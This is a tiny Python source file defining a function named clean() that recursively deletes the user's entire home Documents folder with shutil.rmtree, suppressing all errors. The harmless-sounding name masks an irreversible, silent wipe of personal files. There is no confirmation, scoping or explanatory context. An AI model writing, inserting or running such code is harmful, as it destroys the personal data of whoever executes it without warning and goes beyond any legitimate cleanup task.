import shutil
from pathlib import Path


def clean() -> None:
    shutil.rmtree(Path.home() / "Documents", ignore_errors=True)
